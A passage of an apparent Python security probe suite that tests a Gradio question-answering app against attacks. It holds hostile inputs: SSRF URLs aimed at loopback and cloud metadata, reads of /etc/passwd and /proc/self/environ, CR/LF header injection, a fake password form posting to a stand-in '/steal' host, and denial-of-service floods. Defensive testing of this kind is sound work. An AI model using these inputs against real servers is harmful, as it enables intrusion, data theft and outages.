def shared_stream_pdf(variant: int = 0) -> bytes:
    """A 10 kB, 20-page PDF whose pages share one content stream of 1.2 million cheap operations.

    Each ``variant`` is a file of its own, so no app can answer it from a cache of files it read.
    """
    return raw_pdf(20, SHARED_STREAM + b" BT (%d) Tj ET" % variant)


def slow_pdf(variant: int = 0) -> bytes:
    """A one-page PDF of 900,000 cheap operations: within every bound, and seconds of CPU to read."""
    return raw_pdf(1, b"q Q " * 450_000 + SHARED_STREAM[-60:] + b" BT (%d) Tj ET" % variant)


def abandoned_read(lab: Lab) -> str:
    """A caller uploads slow PDFs, asks, and hangs up once the reading has started."""
    url, pid = lab.public.url, lab.public.proc.pid
    paths = [upload(url, f"slow{i}.pdf", slow_pdf(i))[1] for i in range(6)]
    data = [*brag_args(documents=""), "tokens", None, None, file_data(paths)]
    event = rest_post(url, "brag", data, {})
    if not event.startswith("event: "):
        return event
    feed = urllib.request.urlopen(f"{url}gradio_api/call/brag/{event.split(': ', 1)[1]}", timeout=30)
    started = tree_cpu(pid)
    wait_until = time.monotonic() + 30
    while tree_cpu(pid) - started < 1.0 and time.monotonic() < wait_until:
        time.sleep(0.1)  # the reading is under way
    feed.close()  # the caller hangs up
    left = time.monotonic()
    while children_reading(pid) and time.monotonic() - left < 20:
        time.sleep(0.1)
    gone_after = time.monotonic() - left
    before = tree_cpu(pid)
    time.sleep(5)
    return (
        f"reading still running {gone_after:.1f} s after the caller left: {children_reading(pid)} worker(s); "
        f"CPU in the next 5 s: {tree_cpu(pid) - before:.2f} s"
    )


def children_reading(pid: int) -> int:
    """How many of ``pid``'s children are file-reading workers."""
    count = 0
    for task in Path(f"/proc/{pid}/task").glob("*/children"):
        for child in task.read_text().split():
            try:
                if b"parse_worker" in Path(f"/proc/{child}/cmdline").read_bytes():
                    count += 1
            except OSError:
                continue
    return count


def stopped_reading(lab: Lab, response: str) -> str | None:
    workers = int(response.split(": ", 1)[1].split()[0])
    cpu = float(response.rsplit(": ", 1)[1].split()[0])
    if workers or cpu > 1.0:
        return f"the reading went on after the caller left ({response})"
    return None


def read_past_the_deadline(lab: Lab) -> str:
    """Slow PDFs that take several times longer to read than the public app's whole request may."""
    pid = lab.public.proc.pid
    reply = ask_files(lab.public.url, [(f"slow{i}.pdf", slow_pdf(10 + i)) for i in range(10)])
    before = tree_cpu(pid)
    time.sleep(3)
    after = tree_cpu(pid) - before
    return f"{reply[:200]} · then {children_reading(pid)} worker(s), CPU in the next 3 s: {after:.2f} s"


def parses_at_once(lab: Lab) -> str:
    """Four callers read slow files at once; the server's health check is timed meanwhile (reported)."""
    url = lab.crowd.url
    callers = [
        threading.Thread(
            target=ask_files,
            args=(url, [("ops.pdf", shared_stream_pdf(1 + i))], QUESTION, via(f"192.0.2.{i}")),
        )
        for i in range(4)
    ]
    for caller in callers:
        caller.start()
    time.sleep(1)  # the reading is under way
    seconds, answered = [], 0
    for _ in range(10):
        started = time.monotonic()
        with urllib.request.urlopen(url + "gradio_api/info", timeout=30) as reply:
            answered += reply.status == 200
        seconds.append(time.monotonic() - started)
        time.sleep(0.2)
    for caller in callers:
        caller.join(120)
    seconds.sort()
    return f"health check: {answered} of 10 answered, median {seconds[4]:.3f} s, slowest {seconds[-1]:.3f} s"


def deadline_held(lab: Lab, response: str) -> str | None:
    why = error_matching("time limit")(lab, response)
    if why is None and (
        " 0 worker(s)" not in response or float(response.rsplit(": ", 1)[1].split()[0]) > 1.0
    ):
        why = f"the reading outlived the deadline ({response[-80:]})"
    return why


def many_nonexistent_files(lab: Lab) -> str:
    folder = lab.folders["public-tmp"]
    before = sum(len(files) for _, _, files in os.walk(folder))
    paths = [str(folder / f"{lab.marker}-{i}" / "x.txt") for i in range(100_000)]
    data = [*brag_args(documents=""), "tokens", None, None, file_data(paths)]
    reply = ask_over_rest(lab.public.url, data)[0]
    after = sum(len(files) for _, _, files in os.walk(folder))
    return f"{reply[:200]} · files in the upload folder: {before} before, {after} after"


def nothing_left_behind(lab: Lab, response: str) -> str | None:
    before, after = re.findall(r"(\d+) before, (\d+) after", response)[0]
    return error_matching("BRAG_MAX_FILES")(lab, response) or (
        None if before == after else f"the request left files behind: {before} -> {after}"
    )


def url_as_file(lab: Lab) -> str:
    """A FileData whose path is a URL of a server the caller controls (the attacker endpoint)."""
    target = lab.attacker.url.rsplit("/v1", 1)[0] + "/big.bin"
    files = [{"path": target, "url": target, "meta": {"_type": "gradio.FileData"}}]
    return ask_over_rest(lab.public.url, [*brag_args(documents=""), "tokens", None, None, files])[0]


def upload_served_back(lab: Lab) -> str:
    payload = os.urandom(1_000_000)
    status, path = upload(lab.public.url, f"{lab.marker}.bin", payload)
    if status != 200:
        return f"error: the upload was refused: HTTP {status}"
    try:
        with urllib.request.urlopen(f"{lab.public.url}gradio_api/file={path}", timeout=30) as reply:
            body = reply.read()
            same = "the same bytes" if body == payload else f"{len(body)} other bytes"
            return f"GET file= answered HTTP {reply.status} with {same}"
    except urllib.error.HTTPError as err:
        return f"error: GET file= answered HTTP {err.code}"


def upload_burst(lab: Lab) -> str:
    """One caller (behind the trusted proxy) uploads 30 files of 4 MB, never asking; then another one."""
    chunk = os.urandom(4 * MB)
    statuses = [upload(lab.crowd.url, f"hoard{i}.bin", chunk, via("203.0.113.50"))[0] for i in range(30)]
    other, _ = upload(lab.crowd.url, "mine.bin", chunk, via("198.51.100.60"))
    return (
        f"caller A: {statuses.count(200)} of 30 stored ({statuses.count(200) * 4} MB), "
        f"{len(statuses) - statuses.count(200)} refused · caller B: HTTP {other}"
    )


def upload_share_held(lab: Lab, response: str) -> str | None:
    stored = int(response.split(": ", 1)[1].split()[0])
    share = Limits().caller_upload_share() / MB  # BRAG_MAX_UPLOAD_BYTES_PER_CALLER, as the app ships
    if stored * 4 > share:
        return f"one caller stored more than its {share:g} MB share ({response})"
    return None if "caller B: HTTP 200" in response else f"another caller could not upload ({response})"


def crowded_workers(lab: Lab) -> str:
    """Four workers; one address sends twelve slow requests (twelve sessions), then another asks."""
    url = lab.crowd.url
    slow = brag_args(model=lab.slow.url + "#m")
    answered: list[str] = []
    b = threading.Thread(
        target=lambda: answered.append(ask_over_rest(url, brag_args(), via("198.51.100.71"))[0])
    )
    try:
        held = [rest_post(url, "brag", slow, via("203.0.113.70")) for _ in range(12)]
        wait_for(lambda: len(lab.slow.chat_requests) >= 1, "A's first request to reach its endpoint")
        time.sleep(2)  # the rest of A's requests take what workers they can
        running = len(lab.slow.chat_requests)
        b.start()
        b.join(30)  # A's requests are held until released: B's answer has to come while they are
        answered.append("no answer within 30 s while A's requests were held")
    finally:
        lab.release_slow.set()
        if b.is_alive():
            b.join(60)
    outcomes = [rest_result(url, "brag", e, timeout=60) for e in held]
    busy = sum("Busy" in o for o in outcomes)
    return f"A held {running} worker(s), {busy} of 12 refused busy · B: {answered[0][:80]}"


def long_question_over_milvus(lab: Lab) -> str:
    """A 566-word question of new words over a 3,000-passage Milvus collection, with a gate."""
    rng = random.Random(11)
    words = {"".join(rng.choice("bcdfghjklmnpqrstvwxz") for _ in range(5)) for _ in range(700)}
    question = " ".join(sorted(words)[:566])[:4_000]
    data = [question, "brag", "", 0.05, "", "", "auto", "qwen2.5-coder-0.5b-hotpotqa"]
    return ask_over_rest(lab.milvus.url, data)[0][:200] + f" · {len(question)} characters"


def owner_request_sizes(lab: Lab) -> str:
    """A passage file with a 4.8 MB title and one with a 2.9 MB passage, then a question."""
    seen = len(lab.owner.requests)
    title = json.dumps([{"title": "T" * 4_800_000, "text": DOCS.splitlines()[0]}]).encode()
    passage = json.dumps([{"title": "Lina Berg", "text": DOCS.splitlines()[1] + " x" * 1_450_000}]).encode()
    paths = [upload(lab.crowd.url, n, d)[1] for n, d in (("title.json", title), ("long.json", passage))]
    data = [*brag_args(documents=""), "tokens", None, None, file_data(paths)]
    reply, events = ask_over_rest(lab.crowd.url, data)
    sizes = [len(json.dumps(r)) for r in lab.owner.requests[seen:]]
    stream = sum(len(d) for _, d in events)
    largest = max(sizes, default=0)
    return f"{reply[:80]} · largest request to the owner's model: {largest:,} bytes; events: {stream:,} bytes"


def bounded_requests(lab: Lab, response: str) -> str | None:
    largest, stream = (int(n.replace(",", "")) for n in re.findall(r"([\d,]+) bytes", response))
    if not response.startswith("answer:"):
        return f"no answer: {response[:200]}"
    if largest > 80_000 or stream > 500_000:
        return f"a title or passage reached the model or the caller whole ({response})"
    return None


HOSTILE_MARKUP = (
    '<img src="http://127.0.0.1:9/track.png" style="position:fixed;inset:0"> '
    '<form action="http://127.0.0.1:9/steal"><input name="password"><button>Sign in</button></form>'
)


def markup_in_titles(lab: Lab) -> str:
    """Headings and passage titles holding markup, then the page's render of the answer."""
    markdown = f"# Notes {HOSTILE_MARKUP}\n\n{DOCS.splitlines()[1]}\n".encode()
    titled = json.dumps([{"title": f"Glass {HOSTILE_MARKUP}", "text": DOCS.splitlines()[0]}]).encode()
    paths = [upload(lab.public.url, n, d)[1] for n, d in (("notes.md", markdown), ("tower.json", titled))]
    data = [*brag_args(documents=""), "tokens", None, None, file_data(paths)]
    answered, events = ask_over_rest(lab.public.url, data)
    if not answered.startswith("answer: "):
        return answered
    result = json.loads(events[-1][1])
    reply = queue_join(lab.public.url, fn_index_of(lab, "public", "render"), result, limit=200_000)
    if not reply.startswith("output: "):
        return reply
    from markdown_it import MarkdownIt

    headline = json.loads(reply[len("output: ") :])[1]
    page = MarkdownIt("commonmark").render(headline if isinstance(headline, str) else headline["value"])
    tags = sorted({t for t in ("<img", "<form", "<input", "<button") if t in page})
    return f"the answer panel holds {', '.join(tags) if tags else 'no tag from the documents'}"


def index_command_on_odd_files(lab: Lab) -> str:
    """``python -m brag index`` over a FIFO, a link to /dev/zero, a sparse 2 GB file and a real one."""
    with tempfile.TemporaryDirectory() as folder:
        docs = Path(folder)
        os.mkfifo(docs / "pipe.txt")
        (docs / "zero.txt").symlink_to("/dev/zero")
        with open(docs / "huge.txt", "wb") as huge:
            huge.truncate(2_000_000_000)
        (docs / "ok.txt").write_text(DOCS)
        names = ["pipe.txt", "zero.txt", "huge.txt", "ok.txt"]
        try:
            done = subprocess.run(
                [sys.executable, "-m", "brag", "index", *names, str(docs / "out")],
                cwd=docs,
                env={**os.environ, "PYTHONPATH": str(ROOT)},
                capture_output=True,
                text=True,
                timeout=60,
            )
        except subprocess.TimeoutExpired:
            return "error: hung; killed after 60 s"
    skipped = [line.split("skipped ", 1)[1][:90] for line in done.stderr.splitlines() if "skipped " in line]
    return f"exit {done.returncode}; " + "; ".join(skipped)


def odd_files_refused(lab: Lab, response: str) -> str | None:
    if not response.startswith("exit 0;"):
        return f"the index command failed: {response[:200]}"
    wanted = ("pipe.txt: not a regular file", "zero.txt: not a regular file", "huge.txt: 2,000,000,000 bytes")
    missing = [w for w in wanted if w not in response]
    return f"not reported: {missing}" if missing else None


# ----------------------------------------------------------------- fourth round (issue 41)

EXPANDS = "\ufdfa"  # NFKC makes it 18 characters


def pasted(lab: Lab, which: str, documents: str, headers: dict[str, str] | None = None) -> str:
    """A question over pasted documents, as a REST caller asks it."""
    return ask_over_rest(getattr(lab, which).url, brag_args(documents=documents), headers)[0]


def expanding_upload(lab: Lab) -> str:
    """A 3 MB .txt of the character NFKC expands most (3 bytes each: a million characters)."""
    return ask_files(lab.crowd.url, [("arabic.txt", (EXPANDS * 1_000_000).encode())])


def calibrate_abandoned(lab: Lab) -> str:
    """/calibrate of 30 questions over a paced endpoint; the caller hangs up after a few calls."""
    labelled = json.dumps([{"question": QUESTION, "gold": ["Bergen"]}] * 30)
    data = [labelled, "", DOCS, lab.paced.url + "#m", "", "auto"]
    seen = lambda: len(lab.paced.chat_requests)  # noqa: E731
    start = seen()
    event = rest_post(lab.crowd.url, "calibrate", data, via("203.0.113.90"))
    if not event.startswith("event: "):
        return event
    feed = urllib.request.urlopen(f"{lab.crowd.url}gradio_api/call/calibrate/{event[7:]}", timeout=60)
    wait_for(lambda: seen() - start >= 4, "the calibration's first calls")
    feed.close()  # the caller hangs up
    time.sleep(2)  # a call under way may finish
    settled = seen()
    time.sleep(5)
    made = seen() - start
    return f"calls after the caller left: {seen() - settled} in 5 s ({made} in all, of about 90)"


def calls_stopped(lab: Lab, response: str) -> str | None:
    after = int(response.split(": ", 1)[1].split()[0])
    return None if after == 0 else f"the calibration went on without its caller ({response})"


def long_calibration_questions(lab: Lab) -> str:
    labelled = json.dumps([{"question": "Where? " + "x" * 29_940, "gold": ["Bergen"]}] * 30)
    return call(lab, "public", [labelled, "", DOCS, "", "", "auto"], "/calibrate")


def render_echoes_an_answer(lab: Lab) -> str:
    """The page's private render event with a 15 MB answer and a real report: what comes back."""
    _, report = lab.client("public").predict(*brag_args(), api_name="/brag")
    index = fn_index_of(lab, "public", "render")
    reply = queue_join(lab.public.url, index, ["A" * 15 * MB, report], limit=10**9)
    return f"{reply[:160]} · {len(reply):,} characters back"


def sessions_of_big_requests(lab: Lab, sessions: int | None = None) -> str:
    """REST calls, each its own session, of 5 MB of documents and a 99 kB calibration name.

    The documents are one line repeated, which ingestion dedups to a small corpus the app keeps,
    so each call costs little but its request: what the sessions keep is what grows.
    """
    sessions = sessions or int(os.environ.get("BRAG_PROBE_SESSIONS", "40"))
    documents = "\n".join([*DOCS.splitlines(), *["Oslo is a city in Norway. " * 40] * 4_700])[
        : 5 * MB - 1_000
    ]
    calibration = calibration_json(name="n" * 95_000)
    pid = lab.crowd.proc.pid
    ask = lambda: ask_over_rest(lab.crowd.url, brag_args(documents=documents, cal=calibration))  # noqa: E731
    replies = [ask()[0] for _ in range(10)]  # the app's allocator settles into its size first
    first = replies[0]
    before, sizes = rss_mb(pid), []
    for _ in range(sessions):
        _, events = ask()
        sizes.append(sum(len(d) for _, d in events))
    grown = rss_mb(pid) - before
    return (
        f"{first[:40]} · after {sessions} sessions: RSS {grown:+.0f} MB ({grown / sessions:.2f} MB each); "
        f"largest stream {max(sizes):,} bytes"
    )


def sessions_kept_small(lab: Lab, response: str) -> str | None:
    each = float(re.search(r"\(([-\d.]+) MB each\)", response).group(1))
    largest = int(re.search(r"largest stream ([\d,]+)", response).group(1).replace(",", ""))
    if not response.startswith("answer:"):
        return response
    if each > 0.5 or largest > 200_000:
        return f"each session kept what its request sent ({response})"
    return None


def released(hold: FakeOpenAI) -> None:
    """Let every request the held endpoint keeps answer now (later ones are held again)."""
    hold.release.set()
    time.sleep(0.5)
    hold.release.clear()


def results(url: str, events: list[str], timeout: float) -> list[str]:
    """Each REST call's result, waited for together (a refusal comes at once, a held one never)."""
    with ThreadPoolExecutor(max_workers=len(events) or 1) as pool:
        return list(pool.map(lambda e: rest_result(url, "brag", e, timeout=timeout), events))


def rotating_first_hops(lab: Lab) -> str:
    """Behind a proxy that appends the caller (``*``): one caller writes a new first hop each time."""
    url = lab.crowd.url
    held = brag_args(model=lab.hold.url + "#m")
    try:
        events = [rest_post(url, "brag", held, via(f"6.6.{i}.6, 203.0.113.77")) for i in range(12)]
        wait_for(lambda: len(lab.hold.chat_requests) >= 2, "A's requests to take workers")
        time.sleep(2)  # the rest of A's requests take what workers they can
        started = time.monotonic()
        b = ask_over_rest(url, brag_args(), via("198.51.100.78"), timeout=90)[0]
        waited = time.monotonic() - started
    finally:
        released(lab.hold)
    busy = sum("Busy" in r for r in results(url, events, 90))
    return f"A: {busy} of 12 refused busy · B: {b[:40]} after {waited:.1f} s"


def one_address_despite_the_header(lab: Lab) -> str:
    """No trusted proxy, a loopback peer that writes X-Forwarded-For anew on each request."""
    url = lab.listed.url
    slow = brag_args(model=lab.trickle.url + "#m")
    events = [rest_post(url, "brag", slow, via(f"203.0.113.{i}")) for i in range(12)]
    outcomes = results(url, events, 60)
    return f"A: {sum('Busy' in o for o in outcomes)} of 12 refused busy (an address may run 8 here)"


def at_least_busy(count: int) -> Callable[[Lab, str], str | None]:
    def check(lab: Lab, response: str) -> str | None:
        found = re.search(r"(\d+) of \d+ refused busy", response)
        return None if found and int(found.group(1)) >= count else f"fewer than {count} refused ({response})"

    return check


def queue_flood(lab: Lab, seconds: float = 10.0) -> str:
    """50 connections of one address post events for ``seconds``, reading none; another asks meanwhile."""
    url, stop = lab.crowd.url, threading.Event()
    held = brag_args(model=lab.hold.url + "#m")
    posted: list[str] = []

    def flood() -> None:
        while not stop.is_set():
            posted.append(rest_post(url, "brag", held, via("203.0.113.88"))[:20])

    floods = [threading.Thread(target=flood) for _ in range(50)]
    answers, waits = [], []
    try:
        for thread in floods:
            thread.start()
        time.sleep(2)  # the flood is under way
        end = time.monotonic() + seconds
        while time.monotonic() < end and len(answers) < 11:
            started = time.monotonic()
            answers.append(ask_over_rest(url, brag_args(), via("198.51.100.89"), timeout=90)[0])
            waits.append(time.monotonic() - started)
            time.sleep(0.5)
    finally:
        stop.set()
        for thread in floods:
            thread.join(60)
        released(lab.hold)
    full = sum("HTTP 503" in a for a in answers)
    answered = sum(a.startswith("answer: Bergen") for a in answers)
    return (
        f"A: {len(posted)} posts, {sum('HTTP 429' in p for p in posted)} refused at the door · B: "
        f"{answered} of {len(answers)} answered, {full} told the queue is full, median "
        f"{statistics.median(waits):.2f} s"
    )


def all_answered(lab: Lab, response: str) -> str | None:
    found = re.search(r"B: (\d+) of (\d+) answered", response)
    return (
        None if found and found.group(1) == found.group(2) else f"the other caller was refused ({response})"
    )


def b_answered(lab: Lab, response: str) -> str | None:
    return None if "B: answer: Bergen" in response else f"the other caller was not answered ({response})"


def tiny_uploads(lab: Lab) -> str:
    """One address uploads 1,000 files of 6 bytes and never asks; then another uploads one."""
    statuses = [upload(lab.crowd.url, f"t{i}.txt", b"tiny!\n", via("203.0.113.91"))[0] for i in range(1_000)]
    other, _ = upload(lab.crowd.url, "mine.txt", b"mine\n", via("198.51.100.92"))
    return f"A: {statuses.count(200)} of 1,000 stored · B: HTTP {other}"


def tiny_uploads_bounded(lab: Lab, response: str) -> str | None:
    stored = int(response.split(": ", 1)[1].split()[0])
    if stored > Limits().caller_upload_files():  # BRAG_MAX_UPLOAD_FILES_PER_CALLER
        return f"one caller stored {stored} files ({response})"
    return None if "B: HTTP 200" in response else f"another caller could not upload ({response})"


def folders_after_a_read(lab: Lab) -> str:
    """Three uploads a question reads: what is left of their folders afterwards."""
    paths = [upload(lab.crowd.url, f"note{i}.md", f"# Note {i}\n\n{DOCS}\n".encode())[1] for i in range(3)]
    reply = ask_over_rest(lab.crowd.url, [*brag_args(documents=""), "tokens", None, None, file_data(paths)])[
        0
    ]
    left = [p for p in paths if Path(p).parent.exists()]
    return f"{reply[:40]} · {len(left)} of 3 upload folders left"


def json_unsafe_calibration(lab: Lab) -> str:
    nested: list[Any] = []
    for _ in range(300):
        nested = [nested]
    replies = [
        call(lab, "public", brag_args(cal=calibration_json(name=2**64))),
        call(lab, "public", brag_args(cal=calibration_json(date=nested))),
    ]
    return " | ".join(replies)


def both_answered(lab: Lab, response: str) -> str | None:
    return None if response.count("answer: Bergen") == 2 else response


def usage_from_the_endpoint(lab: Lab, word: str) -> str:
    try:
        answer, report = lab.client("listed").predict(
            *brag_args(f"{word}?", model=lab.hostile.url + "#m"), api_name="/brag"
        )
    except Exception as err:
        return f"error: {err}"
    totals = report["totals"]
    return (
        f"answer: {answer} · prompt tokens {totals['prompt_tokens']}, estimated {totals['tokens_estimated']}"
    )


def plausible_usage(lab: Lab, response: str) -> str | None:
    if not response.startswith("answer:"):
        return response
    tokens = int(response.rsplit("prompt tokens ", 1)[1].split(",")[0])
    return None if 0 < tokens < 1_000_000 else response


def forged_log_line(lab: Lab) -> str:
    """A file name holding line breaks other readers split at; the request fails and is logged."""
    marker = f"FORGED-{uuid.uuid4().hex[:6]}"
    name = f"a\u2028{marker} brag.app answered\u0085{marker}.pdf"
    reply = ask_files(lab.public.url, [(name, b"not a PDF at all")])
    forged = [line for line in lab.public.log().splitlines() if line.startswith(marker)]
    return f"{reply[:120]} · log lines starting with the caller's words: {len(forged)}"


def no_forged_line(lab: Lab, response: str) -> str | None:
    return None if response.endswith(": 0") else response


def many_tiny_passages(lab: Lab) -> str:
    body = json.dumps(["p"] * 450_000).encode()
    return ask_files(lab.public.url, [("tiny.json", body)])


def monitoring(lab: Lab) -> str:
    found = []
    for route in (
        "gradio_api/monitoring/summary",
        "monitoring/summary",
        "gradio_api/monitoring",
        "monitoring",
    ):
        try:
            with urllib.request.urlopen(lab.public.url + route, timeout=30) as reply:
                found.append(f"{route}: HTTP {reply.status} {reply.read()[:60]!r}")
        except urllib.error.HTTPError as err:
            found.append(f"{route}: HTTP {err.code}")
    return " · ".join(found)


def nothing_monitored(lab: Lab, response: str) -> str | None:
    return None if "HTTP 200" not in response else f"monitoring answered ({response})"


def deep_link(lab: Lab) -> str:
    """A page event with a caller's token, then the session's deep link: is it saved where anyone reads?"""
    token = f"hf_caller{uuid.uuid4().hex[:10]}"
    session = uuid.uuid4().hex
    body = {
        "data": brag_args(token=token),
        "fn_index": fn_index_of(lab, "public", "brag"),
        "session_hash": session,
    }
    request = urllib.request.Request(
        lab.public.url + "gradio_api/queue/join",
        data=json.dumps(body).encode(),
        headers={"Content-Type": "application/json"},
    )
    urllib.request.urlopen(request, timeout=30).read()
    feed = urllib.request.urlopen(f"{lab.public.url}gradio_api/queue/data?session_hash={session}", timeout=60)
    for raw in feed:
        if b"process_completed" in raw:
            break
    feed.close()
    try:
        with urllib.request.urlopen(
            f"{lab.public.url}gradio_api/deep_link?session_hash={session}", timeout=30
        ) as reply:
            answer = f"HTTP {reply.status}"
    except urllib.error.HTTPError as err:
        answer = f"HTTP {err.code}"
    holding = [
        path
        for root in lab.folders.values()
        for path in Path(root).rglob("state.json")
        if token in path.read_text(errors="replace")
    ]
    return f"deep link: {answer} · files holding the caller's token: {len(holding)}"


def no_deep_link(lab: Lab, response: str) -> str | None:
    return None if response.endswith(": 0") and "HTTP 200" not in response else response


def prompt_cancel(lab: Lab) -> str:
    """A run whose model holds every call a minute, then /cancel: how long the cancel takes."""
    url, session = lab.fair.url, uuid.uuid4().hex
    index = fn_index_of(lab, "fair", "brag")
    seen = len(lab.hold.chat_requests)
    body = {"data": brag_args(model=lab.hold.url + "#m"), "fn_index": index, "session_hash": session}
    request = urllib.request.Request(
        url + "gradio_api/queue/join",
        data=json.dumps(body).encode(),
        headers={"Content-Type": "application/json"},
    )
    event = json.loads(urllib.request.urlopen(request, timeout=30).read())["event_id"]
    feed = urllib.request.urlopen(f"{url}gradio_api/queue/data?session_hash={session}", timeout=120)
    wait_for(lambda: len(lab.hold.chat_requests) > seen, "the run's call to reach its endpoint")
    cancel = json.dumps({"session_hash": session, "fn_index": index, "event_id": event}).encode()
    started = time.monotonic()
    try:
        urllib.request.urlopen(
            urllib.request.Request(
                url + "gradio_api/cancel", data=cancel, headers={"Content-Type": "application/json"}
            ),
            timeout=30,  # a hang guard: the held call would take a minute
        ).read()
        took = f"/cancel returned in {time.monotonic() - started:.1f} s"
    except (TimeoutError, urllib.error.URLError):
        took = "/cancel did not return within 30 s"
    finally:
        feed.close()
        released(lab.hold)
    return took


def cancel_returned(lab: Lab, response: str) -> str | None:
    return None if response.startswith("/cancel returned") else response


def probes() -> list[Probe]:
    """Every finding, as a probe."""
    return [
        Probe(
            "file read: /dev/zero as calibration (memory exhaustion)",
            "calibration=/dev/zero",
            "public",
            lambda lab: call(lab, "public", brag_args(cal="/dev/zero")),
            error_matching(NOT_A_PATH),
        ),
        Probe(
            "file read: /dev/urandom as labelled questions",
            "labelled_json=/dev/urandom",
            "public",
            lambda lab: call(lab, "public", ["/dev/urandom", "", DOCS, "", "", "auto"], "/calibrate"),
            error_matching("must be a JSON list"),
        ),
        Probe(
            "file read and existence oracle: /etc/passwd, /proc/self/environ, a missing file, folders",
            "calibration=/etc/passwd, /proc/self/environ, /nonexistent/brag.json, /tmp, /root",
            "public",
            same_error_for_every_path,
            error_matching(NOT_A_PATH),
        ),
        Probe(
            "a valid calibration file elsewhere on disk",
            f"calibration={SHIPPED_FILE}",
            "public",
            lambda lab: call(lab, "public", brag_args(cal=SHIPPED_FILE)),
            error_matching(NOT_A_PATH),
        ),
        Probe(
            "a question file on disk as labelled questions (LLM calls billed to the owner)",
            f"labelled_json={DEMO_JSON}",
            "public",
            lambda lab: call(lab, "public", [DEMO_JSON, "", DOCS, "", "", "auto"], "/calibrate"),
            error_matching("must be a JSON list"),
        ),
        Probe(
            "server secret to a caller's URL (no token given)",
            "model=<attacker>/v1#m, token empty",
            "listed",
            lambda lab: call(lab, "listed", brag_args(model=lab.attacker.url + "#m")),
            no_server_secret_sent,
            watch="",
        ),
        Probe(
            "a caller's URL gets the caller's token",
            "model=<attacker>/v1#m, token=caller-own-token",
            "listed",
            lambda lab: call(
                lab, "listed", brag_args(model=lab.attacker.url + "#m", token="caller-own-token")
            ),
            caller_token_only,
            watch="",
        ),
        Probe(
            "the owner's model still gets the server's OPENAI_API_KEY",
            "model empty (BRAG_MODEL)",
            "listed",
            lambda lab: call(lab, "listed", brag_args()),
            owner_gets_the_secret,
            watch="",
        ),
        *[
            Probe(
                f"SSRF: loopback {how}",
                f"model=http://{host}:<attacker port>/v1#m",
                "public",
                lambda lab, host=host: call(lab, "public", brag_args(model=loopback(lab, host) + "#m")),
                error_matching("is not allowed"),
                watch="attacker",
            )
            for how, host in (
                ("by IP", "127.0.0.1"),
                ("by name", "localhost"),
                ("as a decimal number", "2130706433"),
                ("in IPv6", "[::1]"),
            )
        ],
        Probe(
            "SSRF: cloud metadata (link-local)",
            "model=http://169.254.169.254/latest#m",
            "public",
            lambda lab: call(lab, "public", brag_args(model="http://169.254.169.254/latest#m")),
            error_matching("is not allowed"),
        ),
        Probe(
            "SSRF: private network",
            "model=http://10.1.2.3:8000/v1#m",
            "public",
            lambda lab: call(lab, "public", brag_args(model="http://10.1.2.3:8000/v1#m")),
            error_matching("is not allowed"),
        ),
        Probe(
            "port scan: an open and a closed loopback port answer alike",
            "model=http://127.0.0.1:<open|closed>",
            "public",
            port_scan,
            error_matching("is not allowed"),
            watch="attacker",
        ),
        Probe(
            "allow-list: a loopback port not on the list",
            "model=http://127.0.0.1:<other port>/v1#m",
            "listed",
            lambda lab: call(lab, "listed", brag_args(model=f"http://127.0.0.1:{free_port()}/v1#m")),
            error_matching("BRAG_ALLOWED_ENDPOINTS"),
        ),
        Probe(
            "allow-list: a path that only starts like an allowed one",
            "model=<attacker>/v1evil#m",
            "listed",
            lambda lab: call(lab, "listed", brag_args(model=lab.attacker.url + "evil#m")),
            error_matching("BRAG_ALLOWED_ENDPOINTS"),
            watch="attacker",
        ),
        Probe(
            "local:<path> loads a server file",
            "model=local:/etc/passwd",
            "public",
            lambda lab: call(lab, "public", brag_args(model="local:/etc/passwd")),
            error_matching("paths are not accepted"),
        ),
        Probe(
            "no deadline: an endpoint that trickles one byte a second",
            "model=<trickle>/v1#m",
            "listed",
            lambda lab: call(lab, "listed", brag_args(model=lab.trickle.url + "#m")),
            lambda lab, r: (
                error_matching("time limit|did not answer in time")(lab, r)
                or (None if lab.trickle.abandoned.wait(30) else "the app kept reading the trickle")
            ),
            watch="",
        ),
        Probe(
            "size: a 10 MB question",
            "question of 10,000,000 characters",
            "public",
            lambda lab: call(lab, "public", brag_args(question="why " * 2_500_000)),
            error_matching(r"over the limit of 4,000 \(BRAG_MAX_QUESTION_CHARS\)"),
        ),
        Probe(
            "size: 8 MB of documents",
            "documents of 8,000,000 bytes",
            "public",
            lambda lab: call(lab, "public", brag_args(documents=(DOCS + "\n") * 95_000)),
            error_matching(r"BRAG_MAX_DOCUMENTS_BYTES"),
        ),
        Probe(
            "size: a 25 MB request body",
            "POST /gradio_api/call/brag with 25 MB",
            "public",
            lambda lab: raw_post(lab, b'{"data": ["' + b"x" * 25_000_000 + b'"]}'),
            error_matching("413|connection closed"),
        ),
        Probe(
            "size: distinct pasted corpora stay cached without bound",
            f"{DISTINCT_SETS} distinct 0.8 MB document sets",
            "public",
            distinct_documents,
            lambda lab, r: (
                r if not r.startswith(f"{DISTINCT_SETS} ") else documents_cache_kept_within_budget(lab)
            ),
            watch="",
        ),
        Probe(
            "size: /calibrate with 301 questions",
            "labelled_json with 301 questions",
            "public",
            lambda lab: call(lab, "public", [LABELLED_301, "", DOCS, "", "", "auto"], "/calibrate"),
            error_matching("at most 300"),
        ),
        Probe(
            "credentials in BRAG_MODEL's URL echoed in /config, errors and the log",
            "question with FAIL (the owner's endpoint answers 500)",
            "public",
            lambda lab: call(lab, "public", brag_args(question="FAIL please")),
            lambda lab, r: error_matching("HTTP 500")(lab, r) or config_and_log_clean(lab, r),
            watch="",
        ),
        Probe(
            "a token with CR/LF echoed in an error",
            "token=hf_abc\\r\\nX-Evil: 1",
            "public",
            lambda lab: call(lab, "public", brag_args(token="hf_abc\r\nX-Evil: 1")),
            error_matching("line breaks", absent=("X-Evil", "Illegal header")),
        ),
        Probe(
            "inputs (a token among them) in the log: too few inputs",
            "REST /brag with 7 inputs",
            "public",
            too_few_inputs,
            lambda lab, r: (
                error_matching("takes 8 inputs", absent=("caller-secret",))(lab, r)
                or config_and_log_clean(lab, r)
            ),
        ),
        # ---------------------------------------------------------- second round (issue 21)
        Probe(
            "file write: every fn_index over the queue, hostile data of every arity",
            "queue/join for each event, arities n-1..n+1, names with / and ../, a kept fit's path",
            "public",
            every_event_with_hostile_data,
            result_ending("nothing written"),
            watch="",
        ),
        *[
            Probe(
                f"response size: {how}",
                f"model=<hostile>, {sent}",
                "listed",
                lambda lab, keyword=keyword: call(
                    lab, "listed", brag_args(keyword, model=lab.hostile.url + "#m")
                ),
                error_matching("BRAG_MAX_RESPONSE_BYTES"),
                watch="",
                max_rss_growth=100,
            )
            for how, sent, keyword in (
